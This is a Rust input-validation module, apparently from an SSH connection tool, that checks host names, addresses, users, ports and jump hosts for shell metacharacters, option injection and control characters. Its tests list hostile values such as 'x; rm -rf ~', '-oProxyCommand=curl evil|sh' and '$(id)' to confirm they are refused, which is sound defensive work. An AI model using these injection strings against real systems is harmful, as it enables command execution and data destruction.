//! Checks on every value that fills a placeholder, before anything runs. Host names and
//! addresses come from sources and are untrusted: a value must be a plausible host name
//! (RFC 1123 labels), an IPv4 address or an IPv6 address (optionally with a `%zone`); shell
//! metacharacters, whitespace, control characters, a leading `-` (an option to the program)
//! and over-long values are refused. Config values (user, jump host, port) are checked too.

use std::net::{Ipv4Addr, Ipv6Addr};

use crate::i18n::{Lang, Msg, fill, t};

/// Longest host name (RFC 1035, without the trailing dot).
pub const MAX_HOST: usize = 253;
/// Longest label of a host name.
pub const MAX_LABEL: usize = 63;
/// Longest user name or tenant id.
pub const MAX_WORD: usize = 64;
/// Longest interface name of an IPv6 zone (Linux IFNAMSIZ - 1).
pub const MAX_ZONE: usize = 15;
/// How many characters of a refused value a message shows.
const SHOWN: usize = 40;

/// Characters a POSIX shell gives a meaning to. None of them is part of a host name, a user
/// name or a tenant id, so a value with one is refused even though nothing runs a shell:
/// the copied command line of `copy` profiles ends up in one.
const SHELL_META: &[char] = &[
    ';', '&', '|', '$', '`', '\\', '"', '\'', '<', '>', '(', ')', '{', '}', '[', ']', '*', '?',
    '!', '#', '~', '^',
];

/// What a value is for (named in messages).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Field {
    Host,
    Address,
    Tenant,
    User,
    Port,
    Jump,
}

/// What is wrong with a value.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Problem {
    Empty,
    TooLong {
        max: usize,
    },
    /// A control character: newline, escape, bell, ...
    Control,
    Whitespace,
    /// Would be read as an option by the program (`-oProxyCommand=...`).
    LeadingDash,
    ShellMeta(char),
    /// A character the field does not allow (e.g. `_` or `/` in a host name).
    NotAllowed(char),
    /// An empty label, a label over 63 characters, or one that starts or ends with `-`.
    BadLabel,
    /// Looks like an IP address but is not one (`999.1.1.1`, `1:2:3`).
    BadIp,
    BadPort,
}

/// A refused value: the field, the value as it came, and why.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Invalid {
    pub field: Field,
    pub value: String,
    pub problem: Problem,
}

impl Invalid {
    /// One line for the status line or a config message; the value is shown sanitised and
    /// clipped, never as it came.
    pub fn describe(&self, lang: Lang) -> String {
        fill(
            t(lang, Msg::SessionBadValue),
            &[
                t(lang, field_msg(self.field)),
                &shown(&self.value),
                &describe_problem(lang, self.problem),
            ],
        )
    }
}

fn field_msg(field: Field) -> Msg {
    match field {
        Field::Host => Msg::FieldHost,
        Field::Address => Msg::FieldAddress,
        Field::Tenant => Msg::FieldTenant,
        Field::User => Msg::FieldUser,
        Field::Port => Msg::FieldPort,
        Field::Jump => Msg::FieldJump,
    }
}

/// The problem in words.
pub fn describe_problem(lang: Lang, problem: Problem) -> String {
    let text = |m| t(lang, m).to_string();
    match problem {
        Problem::Empty => text(Msg::ProblemEmpty),
        Problem::TooLong { max } => fill(t(lang, Msg::ProblemTooLong), &[&max.to_string()]),
        Problem::Control => text(Msg::ProblemControl),
        Problem::Whitespace => text(Msg::ProblemWhitespace),
        Problem::LeadingDash => text(Msg::ProblemLeadingDash),
        Problem::ShellMeta(c) => fill(t(lang, Msg::ProblemShellMeta), &[&c.to_string()]),
        Problem::NotAllowed(c) => fill(t(lang, Msg::ProblemNotAllowed), &[&shown(&c.to_string())]),
        Problem::BadLabel => text(Msg::ProblemBadLabel),
        Problem::BadIp => text(Msg::ProblemBadIp),
        Problem::BadPort => text(Msg::ProblemBadPort),
    }
}

/// `value` made safe to show: every control character as its visible symbol (a newline as
/// `␊`, ESC as `␛`), cut to 40 characters.
pub fn shown(value: &str) -> String {
    let pictured: String = value
        .chars()
        .take(SHOWN)
        .map(|c| match c {
            c if (c as u32) < 0x20 => char::from_u32(0x2400 + c as u32).unwrap_or('\u{fffd}'),
            c => c,
        })
        .collect();
    let mut out = crate::text::sanitize(&pictured).into_owned();
    if value.chars().count() > SHOWN {
        out.push('…');
    }
    out
}

/// The checks every kind of value starts with, in the order that names the worst problem.
fn common(value: &str, max: usize, allowed_meta: &[char]) -> Result<(), Problem> {
    if value.is_empty() {
        return Err(Problem::Empty);
    }
    if value.chars().any(char::is_control) {
        return Err(Problem::Control);
    }
    if value.starts_with('-') {
        return Err(Problem::LeadingDash);
    }
    if let Some(c) = value
        .chars()
        .find(|c| SHELL_META.contains(c) && !allowed_meta.contains(c))
    {
        return Err(Problem::ShellMeta(c));
    }
    if value.chars().any(char::is_whitespace) {
        return Err(Problem::Whitespace);
    }
    if value.chars().count() > max {
        return Err(Problem::TooLong { max });
    }
    Ok(())
}

/// A host name, an IPv4 address, or an IPv6 address with an optional `%zone`.
pub fn host(value: &str) -> Result<(), Problem> {
    common(value, MAX_HOST, &[])?;
    if value.contains(':') {
        return ipv6(value);
    }
    if value.chars().all(|c| c.is_ascii_digit() || c == '.') {
        return value
            .parse::<Ipv4Addr>()
            .map(|_| ())
            .map_err(|_| Problem::BadIp);
    }
    host_name(value)
}

fn ipv6(value: &str) -> Result<(), Problem> {
    let (addr, zone) = match value.split_once('%') {
        Some((addr, zone)) => (addr, Some(zone)),
        None => (value, None),
    };
    addr.parse::<Ipv6Addr>().map_err(|_| Problem::BadIp)?;
    match zone {
        None => Ok(()),
        Some("") => Err(Problem::BadIp),
        Some(zone) if zone.chars().count() > MAX_ZONE => Err(Problem::TooLong { max: MAX_ZONE }),
        Some(zone) => match zone.chars().find(|c| !is_word_char(*c)) {
            Some(c) => Err(Problem::NotAllowed(c)),
            None => Ok(()),
        },
    }
}

/// RFC 1123: labels of letters, digits and inner hyphens, 1..63 each; one trailing dot
/// (a fully qualified name) is fine.
fn host_name(value: &str) -> Result<(), Problem> {
    if let Some(c) = value
        .chars()
        .find(|c| !(c.is_ascii_alphanumeric() || *c == '-' || *c == '.'))
    {
        return Err(Problem::NotAllowed(c));
    }
    let name = value.strip_suffix('.').unwrap_or(value);
    let label_ok =
        |l: &str| !l.is_empty() && l.len() <= MAX_LABEL && !l.starts_with('-') && !l.ends_with('-');
    if name.split('.').all(label_ok) {
        Ok(())
    } else {
        Err(Problem::BadLabel)
    }
}

fn is_word_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-')
}

/// A user name: letters, digits, `.`, `_`, `-` and `@` (for `name@domain`), up to 64.
pub fn user(value: &str) -> Result<(), Problem> {
    common(value, MAX_WORD, &[])?;
    match value.chars().find(|c| !(is_word_char(*c) || *c == '@')) {
        Some(c) => Err(Problem::NotAllowed(c)),
        None => Ok(()),
    }
}

/// A tenant id as it fills `{tenant}`: letters, digits, `.`, `_`, `-`, up to 64.
pub fn tenant(value: &str) -> Result<(), Problem> {
    common(value, MAX_WORD, &[])?;
    match value.chars().find(|c| !is_word_char(*c)) {
        Some(c) => Err(Problem::NotAllowed(c)),
        None => Ok(()),
    }
}

/// A TCP port, 1..65535.
pub fn port(value: i64) -> Result<u16, Problem> {
    u16::try_from(value)
        .ok()
        .filter(|p| *p > 0)
        .ok_or(Problem::BadPort)
}

/// Jump hosts as `ssh -J` takes them: `[user@]host[:port]`, several separated by commas;
/// an IPv6 host in brackets (`[fe80::1]:22`).
pub fn jump(value: &str) -> Result<(), Problem> {
    common(value, 4 * MAX_HOST, &['[', ']'])?;
    value.split(',').try_for_each(hop)
}

fn hop(hop: &str) -> Result<(), Problem> {
    let (who, place) = match hop.rsplit_once('@') {
        Some((who, place)) => (Some(who), place),
        None => (None, hop),
    };
    if let Some(who) = who {
        user(who)?;
    }
    let (name, port_text) = split_port(place)?;
    host(name)?;
    match port_text {
        Some(p) => p
            .parse::<i64>()
            .map_err(|_| Problem::BadPort)
            .and_then(port)
            .map(|_| ()),
        None => Ok(()),
    }
}

/// `host:port`, `[v6]:port`, `[v6]`, `host`; a bare IPv6 address has no port.
fn split_port(place: &str) -> Result<(&str, Option<&str>), Problem> {
    if let Some(rest) = place.strip_prefix('[') {
        let (inner, after) = rest.split_once(']').ok_or(Problem::BadIp)?;
        return match after {
            "" => Ok((inner, None)),
            _ => after
                .strip_prefix(':')
                .map(|p| (inner, Some(p)))
                .ok_or(Problem::BadIp),
        };
    }
    if let Some(c) = place.chars().find(|c| matches!(c, '[' | ']')) {
        return Err(Problem::ShellMeta(c));
    }
    match place.matches(':').count() {
        1 => Ok(place
            .split_once(':')
            .map(|(h, p)| (h, Some(p)))
            .unwrap_or((place, None))),
        _ => Ok((place, None)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plausible_hosts_pass() {
        for ok in [
            "srv-dc01.mueller.local",
            "dc01",
            "fw-01",
            "10.1.2.3",
            "::1",
            "2001:db8::42",
            "fe80::1%eth0",
            "host.example.",
            "1host.example",
        ] {
            assert_eq!(host(ok), Ok(()), "{ok}");
        }
    }

    #[test]
    fn hostile_hosts_are_refused_with_the_reason() {
        let cases = [
            ("x; rm -rf ~", Problem::ShellMeta(';')),
            ("x;rm", Problem::ShellMeta(';')),
            ("-oProxyCommand=touch", Problem::LeadingDash),
            ("-oProxyCommand=curl evil|sh", Problem::LeadingDash),
            ("a -oProxyCommand=x", Problem::Whitespace),
            ("$(id)", Problem::ShellMeta('$')),
            ("`id`", Problem::ShellMeta('`')),
            ("a\nb", Problem::Control),
            ("host\n", Problem::Control),
            ("\x1b[31mred", Problem::Control),
            ("a b", Problem::Whitespace),
            ("a\tb", Problem::Control),
            ("", Problem::Empty),
            ("a&b", Problem::ShellMeta('&')),
            ("a|b", Problem::ShellMeta('|')),
            ("a>b", Problem::ShellMeta('>')),
            ("under_score", Problem::NotAllowed('_')),
            ("user@host", Problem::NotAllowed('@')),
            ("a/b", Problem::NotAllowed('/')),
            ("müller.de", Problem::NotAllowed('ü')),
            ("-", Problem::LeadingDash),
            ("bad-.label", Problem::BadLabel),
            ("a..b", Problem::BadLabel),
            ("999.1.1.1", Problem::BadIp),
            ("010.1.2.3", Problem::BadIp),
            ("1:2:3", Problem::BadIp),
            ("fe80::1%", Problem::BadIp),
            ("fe80::1%eth0;id", Problem::ShellMeta(';')),
            ("fe80::1%eth/0", Problem::NotAllowed('/')),
            ("a\u{202e}b", Problem::NotAllowed('\u{202e}')),
        ];
        for (value, problem) in cases {
            assert_eq!(host(value), Err(problem), "{value:?}");
        }
    }

    #[test]
    fn long_names_and_labels_are_refused() {
        assert_eq!(host(&"a".repeat(300)), Err(Problem::TooLong { max: 253 }));
        assert_eq!(host(&"a".repeat(64)), Err(Problem::BadLabel));
        assert_eq!(host(&"a".repeat(63)), Ok(()));
        let long_ok = vec!["a".repeat(63); 4].join(".");
        assert_eq!(long_ok.len(), 255);
        assert_eq!(host(&long_ok), Err(Problem::TooLong { max: 253 }));
        assert_eq!(host(&long_ok[..253]), Ok(()));
    }

    #[test]
    fn config_values() {
        assert_eq!(user("admin"), Ok(()));
        assert_eq!(user("admin@mueller.local"), Ok(()));
        assert_eq!(user("j.weber_2"), Ok(()));
        assert_eq!(user("-oProxyCommand=x"), Err(Problem::LeadingDash));
        assert_eq!(user("DOM\\admin"), Err(Problem::ShellMeta('\\')));
        assert_eq!(user("a:b"), Err(Problem::NotAllowed(':')));
        assert_eq!(tenant("mueller"), Ok(()));
        assert_eq!(tenant("a/b"), Err(Problem::NotAllowed('/')));
        assert_eq!(port(22), Ok(22));
        assert_eq!(port(0), Err(Problem::BadPort));
        assert_eq!(port(65536), Err(Problem::BadPort));
        assert_eq!(port(-1), Err(Problem::BadPort));
    }

    #[test]
    fn jump_hosts() {
        for ok in [
            "jump.mueller.example",
            "admin@jump.mueller.example:2222",
            "a.example,ops@b.example:22",
            "[fe80::1]:22",
            "[2001:db8::1]",
            "10.0.0.1:22",
            "::1",
        ] {
            assert_eq!(jump(ok), Ok(()), "{ok}");
        }
        assert_eq!(jump("jump.example:99999"), Err(Problem::BadPort));
        assert_eq!(jump("jump.example:ssh"), Err(Problem::BadPort));
        assert_eq!(jump("-oProxyCommand=x"), Err(Problem::LeadingDash));
        assert_eq!(jump("a,-ob"), Err(Problem::LeadingDash));
        assert_eq!(jump("a;b"), Err(Problem::ShellMeta(';')));
        assert_eq!(jump("ho[st"), Err(Problem::ShellMeta('[')));
        assert_eq!(jump("[::1"), Err(Problem::BadIp));
        assert_eq!(jump("a,,b"), Err(Problem::Empty));
    }

    #[test]
    fn refused_values_are_shown_sanitised_and_clipped() {
        assert_eq!(shown("a\nb"), "a␊b");
        assert_eq!(shown("\x1b[31mred"), "␛[31mred");
        let long = shown(&"x".repeat(300));
        assert_eq!(long.chars().count(), 41);
        assert!(long.ends_with('…'));
        let message = Invalid {
            field: Field::Host,
            value: "x; rm -rf ~".into(),
            problem: Problem::ShellMeta(';'),
        }
        .describe(Lang::En);
        assert_eq!(
            message,
            "host `x; rm -rf ~` contains the shell metacharacter `;`"
        );
        let message = Invalid {
            field: Field::Host,
            value: "\x1b]0;pwned\x07".into(),
            problem: Problem::Control,
        }
        .describe(Lang::De);
        assert!(!message.chars().any(char::is_control), "{message:?}");
        assert!(message.contains("␛]0;pwned␇"), "{message}");
    }
}
